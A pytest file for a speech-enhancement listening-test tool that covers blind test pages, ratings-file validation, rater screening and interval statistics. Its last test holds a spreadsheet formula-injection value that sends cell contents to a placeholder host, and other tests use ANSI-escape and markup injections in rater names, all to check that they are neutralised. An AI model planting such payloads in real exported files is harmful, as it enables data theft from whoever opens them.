"""`sectl report --test` and `sectl eval --ratings` without a browser: the blind page, the anchors, the validation
and screening of ratings files, the two-way bootstrap against a plain loop, and the command's outputs."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
import torch
from typer.testing import CliRunner

from sectl.cli.app import app
from sectl.report.listening import digest
from tests.report.conftest import build_test, make_corpus
from tests.report.test_build import page_data

runner = CliRunner()


def key_of(folder: Path) -> dict:
    return json.loads((folder / "test.json").read_text())


def write_ratings(path: Path, folder: Path, rater: str, value, skip: int = 0, test_sha256: str | None = None) -> Path:
    """A ratings file as the page writes it: ``value(trial_id, entry, scale, condition)`` rates each stimulus."""
    key = key_of(folder)
    trials = []
    for item in key["definition"]["practice"] + key["definition"]["trials"]:
        entry = key["key"][item["id"]]
        ratings = {s["name"]: [value(item, entry, s["name"], c) for c in entry["conditions"]] for s in key["definition"]["scales"]}
        trials.append({"id": item["id"], "practice": entry["kind"] == "practice", "ratings": ratings,
                       "order": list(range(len(entry["conditions"]))), "ms": 1000, "at_ms": 1, "plays": 1})  # fmt: skip
    body = {"format": 1, "test_id": key["definition"]["test_id"], "test_sha256": test_sha256 or key["sha256"],
            "method": key["definition"]["method"], "rater": rater, "complete": not skip, "started_ms": 0,
            "trials": trials[: len(trials) - skip]}  # fmt: skip
    path.write_text(json.dumps({"sectl_ratings": 1, "body": body, "sha256": digest(body)}))
    return path


def honest(item, entry, scale, condition):
    """Rates as the checks expect: the reference high, noisy low, traps as asked."""
    if "ask" in item:
        return item["ask"]
    if entry["kind"] == "gold":
        return 5
    if scale == "MUSHRA":
        return {"hidden reference": 100, "anchor 3.5 kHz": 20, "anchor 7 kHz": 45, "noisy": 30}.get(condition, 70)
    return {"hidden reference": 5, "noisy": 2}.get(condition, 4)


def test_the_page_names_no_system_and_the_key_holds_the_conditions(acr_test, mushra_test):
    for folder in (acr_test, mushra_test):
        text = (folder / "site" / "index.html").read_text()
        assert "DF3" not in text and "noisy" not in text
        data = page_data(folder / "site")
        key = key_of(folder)
        assert data["mode"] == "test" and data["sha256"] == key["sha256"] == digest(data["test"])
    key = key_of(mushra_test)
    orders = [key["key"][t["id"]]["conditions"] for t in key["definition"]["trials"]]
    assert sorted(orders[0]) == sorted(["noisy", "DF3", "hidden reference", "anchor 3.5 kHz", "anchor 7 kHz"])
    assert len({tuple(o) for o in orders}) > 1  # not the systems' order in every trial
    acr = key_of(acr_test)
    kinds = [e["kind"] for e in acr["key"].values()]
    assert kinds.count("test") == 3 * 3 and kinds.count("gold") == kinds.count("trap") == 1 and kinds.count("practice") == 1


@pytest.mark.parametrize("cutoff", [3500.0, 7000.0])
def test_the_anchor_low_passes_at_its_cutoff_without_delay(cutoff):
    from sectl.report.anchors import lowpass

    rate = 16000
    t = torch.arange(rate, dtype=torch.float64) / rate  # float32 phases would add broadband noise
    below, above = torch.sin(2 * torch.pi * (cutoff - 500) * t), torch.sin(2 * torch.pi * (cutoff + 500) * t)
    mid = slice(2000, -2000)
    kept = lowpass(below[None], rate, cutoff)[0]
    assert kept.shape == below.shape and torch.allclose(kept[mid], below[mid], atol=1e-3)  # no delay, unity gain
    assert 20 * torch.log10(lowpass(above[None], rate, cutoff)[0][mid].abs().max()) < -70


def test_ratings_of_another_test_edited_by_hand_or_twice_are_refused_by_name(acr_test, mushra_test, tmp_path):
    from sectl.report.ratings import load_ratings, load_test

    test = load_test(acr_test)
    good = write_ratings(tmp_path / "a.json", acr_test, "a", honest)
    other = write_ratings(tmp_path / "other.json", mushra_test, "b", honest)
    edited = write_ratings(tmp_path / "edited.json", acr_test, "c", honest)
    text = json.loads(edited.read_text())
    text["body"]["trials"][1]["ratings"]["ACR"] = [1]
    edited.write_text(json.dumps(text))
    again = write_ratings(tmp_path / "again.json", acr_test, "a", honest)
    raters, refused = load_ratings([good, other, edited, again], test)
    assert [r.rater for r in raters] == ["a"]
    assert len(refused) == 3
    assert refused[0].startswith(f"{other}: ratings of another test")
    assert refused[1].startswith(f"{edited}: edited after it was downloaded")
    assert refused[2].startswith(f"{again}: rater 'a' again")


def test_screening_drops_failed_gold_trap_and_hidden_reference_and_incomplete_raters(acr_test, mushra_test, tmp_path):
    from sectl.report.ratings import load_ratings, load_test, screen

    test = load_test(acr_test)
    files = [write_ratings(tmp_path / "ok.json", acr_test, "ok", honest),
             write_ratings(tmp_path / "gold.json", acr_test, "gold", lambda i, e, s, c: 2 if e["kind"] == "gold" else honest(i, e, s, c)),
             write_ratings(tmp_path / "trap.json", acr_test, "trap", lambda i, e, s, c: 3 if "ask" in i else honest(i, e, s, c)),
             write_ratings(tmp_path / "part.json", acr_test, "part", honest, skip=3)]  # fmt: skip
    raters, _ = load_ratings(files, test)
    screen(raters, test)
    assert [(r.rater, r.kept) for r in raters] == [("ok", True), ("gold", False), ("trap", False), ("part", False)]
    assert "gold clip" in raters[1].reason and "trapping clip" in raters[2].reason and "incomplete" in raters[3].reason
    screen(raters, test, allow_partial=True)
    assert raters[3].kept
    mushra = load_test(mushra_test)
    deaf = lambda i, e, s, c: 60 if c == "hidden reference" else 50  # noqa: E731
    raters, _ = load_ratings([write_ratings(tmp_path / "m.json", mushra_test, "m", honest),
                              write_ratings(tmp_path / "d.json", mushra_test, "d", deaf)], mushra)  # fmt: skip
    screen(raters, mushra)
    assert raters[0].kept and not raters[1].kept and "below 90 in 3 of 3 trials" in raters[1].reason


def test_the_interval_is_the_two_way_anova_form_computed_by_plain_loops(mushra_test, tmp_path):
    """The interval from the margins' variances equals mean +- t sqrt((MS_raters + MS_utterances) / (R U)) of the
    two-way analysis of variance, with Satterthwaite's degrees of freedom, each sum taken rating by rating."""
    from scipy import stats

    from sectl.report.analysis import analyse
    from sectl.report.ratings import load_ratings, load_test, screen

    test = load_test(mushra_test)
    rng = np.random.default_rng(5)
    files = [write_ratings(tmp_path / f"{r}.json", mushra_test, r, lambda i, e, s, c: 100 if c == "hidden reference" else int(rng.integers(0, 101)))
             for r in "abcd"]  # fmt: skip
    raters, _ = load_ratings(files, test)
    screen(raters, test)
    result = analyse(raters, test)
    for row in result["scales"]["MUSHRA"]["conditions"]:
        table: dict[tuple[int, str], int] = {}
        for r, rater in enumerate(raters):
            for trial in rater.trials:
                entry = test.key[trial["id"]]
                if entry["kind"] == "test":
                    table[r, entry["utterance"]] = trial["ratings"]["MUSHRA"][entry["conditions"].index(row["name"])]
        rs, us = sorted({r for r, _ in table}), sorted({u for _, u in table})
        grand = sum(table.values()) / len(table)
        ms_r = len(us) * sum((sum(table[r, u] for u in us) / len(us) - grand) ** 2 for r in rs) / (len(rs) - 1)
        ms_u = len(rs) * sum((sum(table[r, u] for r in rs) / len(rs) - grand) ** 2 for u in us) / (len(us) - 1)
        if ms_r + ms_u == 0:  # the hidden reference: 100 every time
            assert row["ci95"] == [grand, grand]
            continue
        variance = (ms_r + ms_u) / (len(rs) * len(us))
        df = (ms_r + ms_u) ** 2 / (ms_r**2 / (len(rs) - 1) + ms_u**2 / (len(us) - 1))
        half = stats.t.ppf(0.975, df) * variance**0.5
        clipped = [max(grand - half, 0), min(grand + half, 100)]  # an interval never leaves the scale
        assert row["mean"] == pytest.approx(grand) and row["ci95"] == pytest.approx(clipped)


def test_the_intervals_cover_with_few_utterances_and_one_rater_is_warned(tmp_path):
    """2000 simulated tests of 4 raters x 6 utterances (benchmarks/ratings_coverage.py's utterance-heavy case):
    the 95 % interval holds the true mean in 95.5 % of them (at least 94 % asserted); the two-way percentile
    bootstrap it replaced held it in 89.4 % of the same tests."""
    from sectl.report.analysis import analyse
    from sectl.report.ratings import Rater, TestKey

    definition = {"test_id": "sim", "method": "mushra", "trials": [{"id": f"t{u}"} for u in range(6)],
                  "scales": [{"name": "MUSHRA", "min": 0, "max": 100}]}  # fmt: skip
    key = {f"t{u}": {"utterance": f"u{u}", "kind": "test", "conditions": ["A"]} for u in range(6)}
    test = TestKey(tmp_path, "0" * 64, definition, key, {"systems": [{"name": "A", "files": [], "mean": {}}]})
    rng = np.random.default_rng(2024)
    held, runs = 0, 2000
    for _ in range(runs):  # rating = 50 + rater (sd 2) + utterance (sd 15) + error (sd 8), on the 0-100 scale
        table = np.rint(np.clip(50 + rng.normal(0, 2, (4, 1)) + rng.normal(0, 15, (1, 6)) + rng.normal(0, 8, (4, 6)), 0, 100))
        raters = [Rater(f"{r}", f"{r}", [{"id": f"t{u}", "ratings": {"MUSHRA": [int(v)]}} for u, v in enumerate(row)], True)
                  for r, row in enumerate(table)]  # fmt: skip
        low, high = analyse(raters, test)["scales"]["MUSHRA"]["conditions"][0]["ci95"]
        held += low <= 50 <= high
    assert held / runs >= 0.94, held / runs
    alone = analyse(raters[:1], test)
    assert alone["warnings"] and "one rater" in alone["warnings"][0]
    assert not analyse(raters, test)["warnings"]


def test_eval_ratings_prints_json_writes_csv_and_plot_and_exits_1_naming_a_refused_file(acr_test, mushra_test, tmp_path):
    files = [write_ratings(tmp_path / f"{r}.json", acr_test, r, honest) for r in "abc"]
    files.append(write_ratings(tmp_path / "stray.json", mushra_test, "d", honest))
    args = ["eval", "--ratings", *map(str, files), "--test", str(acr_test / "test.json")]
    result = runner.invoke(app, [*args, "--json", "--csv", str(tmp_path / "r.csv"), "--plot", str(tmp_path / "r.png")])
    assert result.exit_code == 1, result.output
    data = json.loads(result.stdout)
    rows = {r["name"]: r for r in data["scales"]["ACR"]["conditions"]}
    assert rows["noisy"]["mean"] == 2 and rows["DF3"]["mean"] == 4 and rows["hidden reference"]["mean"] == 5
    assert {(p["a"], p["b"]): p["significant"] for p in data["scales"]["ACR"]["pairwise"]}[("noisy", "DF3")]
    assert data["refused"][0].startswith(str(files[-1])) and "stray.json" in result.stderr
    assert data["scales"]["ACR"]["correlation"]["per_utterance"]["si_sdr"]["n"] == 6
    assert (tmp_path / "r.csv").read_text().startswith("rater,kept,trial,kind,utterance,condition,scale,value\n")
    assert (tmp_path / "r.png").read_bytes()[:4] == b"\x89PNG"
    table = runner.invoke(app, args[:-3] + args[-2:])
    assert table.exit_code == 0 and "hidden reference" in table.stdout and "raters" in table.stdout


@pytest.mark.parametrize("args, message", [
    (["eval", "--ratings", "x.json"], "--ratings needs --test"),
    (["eval", "--ratings", "--test", "t.json"], "give the ratings files"),
    (["eval", "--ratings", "x.json", "--test", "t.json", "--est", "a/"], "--est: --ratings scores ratings files"),
    (["eval", "--test", "t.json", "--est", "a/"], "--test applies to --ratings only"),
    (["report", "--est", "a/", "-o", "out/", "--test", "acr"], "--test needs --ref"),
    (["report", "--est", "a/", "--ref", "b/", "-o", "out/", "--test", "abx"], "--test: expected one of acr, p835, mushra"),
])  # fmt: skip
def test_argument_errors_are_one_line_and_exit_2(args, message, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(app, args)
    assert result.exit_code == 2 and message in result.stderr, result.output


def test_p835_rates_and_scores_its_three_scales(corpus, tmp_path):
    from sectl.report.analysis import analyse
    from sectl.report.ratings import load_ratings, load_test, screen
    from tests.report.conftest import build_test

    folder = build_test(corpus, tmp_path / "p835", "p835", select_count=2)
    test = load_test(folder)
    assert [s["name"] for s in test.scales] == ["SIG", "BAK", "OVRL"]
    raters, _ = load_ratings([write_ratings(tmp_path / f"{r}.json", folder, r, honest) for r in "ab"], test)
    screen(raters, test)
    result = analyse(raters, test)
    assert set(result["scales"]) == {"SIG", "BAK", "OVRL"} and all(r.kept for r in raters)
    assert {r["name"]: r["mean"] for r in result["scales"]["BAK"]["conditions"]} == {"noisy": 2, "DF3": 4, "hidden reference": 5}


def test_trial_ids_and_their_order_in_the_page_say_nothing_of_the_condition(acr_test):
    """Ids are given after a shuffle: today's test and, over many seeds, no position of the definition keeps one
    condition (in definition order they would cycle noisy, DF3, reference, utterance after utterance)."""
    from sectl.report.listening import plan_trials

    key = key_of(acr_test)
    listed = [t["id"] for t in key["definition"]["trials"]]
    assert listed == [f"t{i}" for i in range(len(listed))]
    conditions = [key["key"][t]["conditions"][0] for t in listed if key["key"][t]["kind"] == "test"]
    assert conditions != [conditions[i % 3] for i in range(len(conditions))]
    utterances = [f"u{i}" for i in range(8)]
    by_position: dict[int, set[str]] = {}
    check_positions = set()
    for seed in range(12):
        trials = [t for t in plan_trials("acr", utterances, ["noisy", "DF3"], seed=seed) if t.kind != "practice"]
        assert [t.id for t in trials] == [f"t{i}" for i in range(len(trials))]
        for i, trial in enumerate(trials):
            by_position.setdefault(i, set()).add(trial.stimuli[0].condition)
        check_positions |= {i for i, t in enumerate(trials) if t.kind in ("gold", "trap")}
    assert all(len(found) > 1 for found in by_position.values())
    assert len(check_positions) > 4  # the gold and trapping clips are shuffled in too, not kept last


def test_practice_never_plays_a_clip_of_the_test(acr_test, mushra_test):
    from sectl.report.build import practice_utterances

    for folder in (acr_test, mushra_test):
        key = key_of(folder)["key"]
        practice = {e["utterance"] for e in key.values() if e["kind"] == "practice"}
        tested = {e["utterance"] for e in key.values() if e["kind"] != "practice"}
        assert practice and not practice & tested
        audio = key_of(folder)["definition"]
        played = {a for t in audio["trials"] for a in [*t["audio"], t.get("reference")] if a}
        assert played and not played & {a for t in audio["practice"] for a in [*t["audio"], t.get("reference")] if a}
    everything = [f"u{i}" for i in range(6)]
    practice, test = practice_utterances(everything, ["u1", "u3", "u4"], 2, seed=0)
    assert test == ["u1", "u3", "u4"] and set(practice) <= {"u0", "u2", "u5"} and len(practice) == 2  # from outside --select
    practice, test = practice_utterances(everything, everything, 2, seed=0)
    assert len(practice) == 2 and len(test) == 4 and not set(practice) & set(test)  # or held out of it
    with pytest.raises(Exception, match="--practice 6"):
        practice_utterances(everything, everything, 6, seed=0)


def crafted(path: Path, folder: Path, change) -> Path:
    """A ratings file changed by ``change(data)`` and hashed again, as a forger would."""
    write_ratings(path, folder, "x", honest)
    data = json.loads(path.read_text())
    change(data)
    if isinstance(data, dict) and isinstance(data.get("body"), dict):
        try:
            data["sha256"] = digest(data["body"])
        except ValueError:  # NaN or Infinity: not canonical JSON, the forger's own hash then
            data["sha256"] = "0" * 64
    path.write_text(json.dumps(data))
    return path


def _set(where: str, value):
    """A change that sets ``data["body"]...`` at the dotted path ``where`` (numbers index lists)."""

    def change(data):
        target = data["body"]
        *parents, last = [int(p) if p.isdigit() else p for p in where.split(".")]
        for part in parents:
            target = target[part]
        target[last] = value

    return change


@pytest.mark.parametrize("change, field", [
    (_set("trials", "abc"), "body.trials: expected a list"),
    (_set("rater", {"a": 1}), "body.rater: expected a non-empty printable string"),
    (_set("rater", "x\x1b[31m"), "body.rater: expected a non-empty printable string"),
    (_set("complete", "yes"), "body.complete: expected true or false"),
    (_set("format", 2), "body.format: expected 1"),
    (_set("trials.0", "t1"), "body.trials[0]: expected a JSON object"),
    (_set("trials.0.id", ["t0"]), "body.trials[0].id: expected the id of a trial of this test"),
    (_set("trials.1.ratings", [3]), ".ratings: expected an object of the scales ACR"),
    (_set("trials.1.ratings.ACR", ["5"]), ".ratings.ACR: expected 1 integer(s) from 1 to 5"),
    (_set("trials.1.ratings.ACR", [True]), ".ratings.ACR: expected 1 integer(s) from 1 to 5"),
    (_set("trials.1.order", [0, 0]), ".order: expected the numbers 0 to 0 in some order"),
    (_set("trials.1.ms", float("nan")), ".ms: expected a time in ms, 0 or more"),
    (_set("trials.1.plays", -1), ".plays: expected a whole number of plays"),
    (_set("trials.1.practice", True), ".practice: expected false"),
    (lambda data: data["body"].pop("trials"), "body.trials: missing"),
    (lambda data: data.update(body=[]), "body: expected a JSON object"),
    (lambda data: data["body"].update(extra=float("inf")), "edited after it was downloaded"),
])  # fmt: skip
def test_a_crafted_ratings_file_is_refused_in_one_line_naming_the_field(acr_test, tmp_path, change, field):
    from sectl.report.ratings import load_ratings, load_test

    path = crafted(tmp_path / "crafted.json", acr_test, change)
    raters, refused = load_ratings([path], load_test(acr_test))
    assert raters == [] and len(refused) == 1 and "\n" not in refused[0]
    assert refused[0].startswith(f"{path}: ") and field in refused[0], refused[0]


def test_crafted_keys_and_markup_in_names_are_one_line_not_a_traceback(acr_test, tmp_path):
    key = key_of(acr_test)
    first = key["definition"]["trials"][0]["id"]
    del key["key"][first]["conditions"]
    (tmp_path / "test.json").write_text(json.dumps(key))
    result = runner.invoke(app, ["eval", "--ratings", str(tmp_path / "x.json"), "--test", str(tmp_path / "test.json")])
    assert result.exit_code == 1 and f"key.{first}: expected the trial's utterance" in result.stderr, result.output
    assert len(result.stderr.strip().splitlines()) == 1
    files = [write_ratings(tmp_path / f"{r}.json", acr_test, f"[/{r}] [bold]", honest) for r in "ab"]
    files.append(crafted(tmp_path / "[red].json", acr_test, _set("test_id", "[/x]")))
    result = runner.invoke(app, ["eval", "--ratings", *map(str, files), "--test", str(acr_test)])
    assert result.exit_code == 1 and "[/a] [bold]" in result.stdout and "'[/x]'" in result.stderr, result.output


def test_no_audio_file_is_listed_twice_so_check_clips_name_no_condition(acr_test, mushra_test, tmp_path):
    """A gold or trapping clip played its test trial's file: in the page's source that file was listed twice, once
    with an answer asked (the first system's clip) or without (the clean reference's): the utterance unblinded."""
    from collections import Counter

    for folder in (acr_test, mushra_test, build_test(make_corpus(tmp_path / "c", 6), tmp_path / "p835", "p835")):
        data = page_data(folder / "site")["test"]
        listed = Counter(name for t in data["practice"] + data["trials"] for name in [*t["audio"], t.get("reference")] if name)
        assert max(listed.values()) == 1, [name for name, n in listed.items() if n > 1]
        assert all((folder / "site" / name).is_file() for name in listed)
    key = key_of(acr_test)
    for trial in key["definition"]["trials"]:
        if key["key"][trial["id"]]["kind"] in ("gold", "trap"):
            same = next(t for t in key["definition"]["trials"] if key["key"][t["id"]]["kind"] == "test"
                        and key["key"][t["id"]]["utterance"] == key["key"][trial["id"]]["utterance"]
                        and key["key"][t["id"]]["conditions"] == key["key"][trial["id"]]["conditions"])  # fmt: skip
            ours, theirs = (sf.read(acr_test / "site" / t["audio"][0])[0] for t in (trial, same))
            assert np.array_equal(ours, theirs)  # the same clip, in a file of its own


def test_intervals_never_leave_the_scale():
    """A mean near the top of the scale had an upper bound past it (MUSHRA [87.31, 101.85], ACR [1.42, 5.08] in a
    real test): each interval is clipped to the scale's range, and a difference to plus or minus its width."""
    from sectl.report.analysis import analyse, two_way_interval
    from sectl.report.ratings import Rater, TestKey

    table = np.array([[100, 100, 100, 100], [100, 100, 100, 60]])
    trials = [{"id": f"t{u}"} for u in range(4)]
    definition = {"test_id": "x", "method": "mushra", "trials": trials, "scales": [{"name": "MUSHRA", "min": 0, "max": 100}]}
    key = {f"t{u}": {"utterance": f"u{u}", "kind": "test", "conditions": ["A", "B"]} for u in range(4)}
    test = TestKey(None, "0" * 64, definition, key, {"systems": [{"name": "A", "files": [], "mean": {}}]})
    raters = [Rater(f"r{r}", f"r{r}", [{"id": f"t{u}", "ratings": {"MUSHRA": [int(v), int(100 - v)]}} for u, v in enumerate(row)], True)
              for r, row in enumerate(table)]  # fmt: skip
    scale = analyse(raters, test)["scales"]["MUSHRA"]
    a, b = scale["conditions"]
    unclipped = two_way_interval(table.astype(float))["ci95"]
    assert unclipped[1] > 100 and a["ci95"] == [pytest.approx(unclipped[0]), 100]
    assert b["ci95"][0] == 0 and b["ci95"][1] == pytest.approx(100 - unclipped[0])
    pair = scale["pairwise"][0]
    assert -100 <= pair["ci95"][0] <= pair["ci95"][1] <= 100 and pair["significant"]


def test_mushra_on_narrowband_audio_is_refused_before_the_folder_is_touched(tmp_path):
    """The 7 kHz anchor cannot be made from 8 kHz audio: refused with the way out, before any file is written (a
    refusal halfway left a folder holding only its manifest, and the next run without --overwrite was refused)."""
    corpus = make_corpus(tmp_path / "c", 3)
    for folder in ("clean", "noisy"):
        for path in (corpus / folder).iterdir():
            sf.write(path, sf.read(path)[0][::2], 8000)
    args = ["report", "--ref", str(corpus / "clean"), "--est", str(corpus / "noisy"), "-m", "si_sdr", "-o", str(tmp_path / "t")]
    result = runner.invoke(app, [*args, "--test", "mushra"])
    assert result.exit_code == 2 and "7 kHz MUSHRA anchor" in result.output and "--test acr or p835" in result.output
    assert not any((tmp_path / "t").iterdir()) if (tmp_path / "t").exists() else True
    result = runner.invoke(app, [*args, "--test", "acr"])
    assert result.exit_code == 0, result.output


def test_a_rater_id_like_a_formula_is_inert_in_the_csv(acr_test, tmp_path):
    """The rater id is typed by whoever rates: `=HYPERLINK(...)` ran as a formula where the --csv file was opened
    in a spreadsheet."""
    rater = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    files = [write_ratings(tmp_path / "a.json", acr_test, rater, honest), write_ratings(tmp_path / "b.json", acr_test, "bo", honest)]
    result = runner.invoke(app, ["eval", "--ratings", *map(str, files), "--test", str(acr_test), "--csv", str(tmp_path / "r.csv")])
    assert result.exit_code == 0, result.output
    import csv

    rows = list(csv.DictReader((tmp_path / "r.csv").open()))
    assert {r["rater"] for r in rows} == {"'" + rater, "bo"}
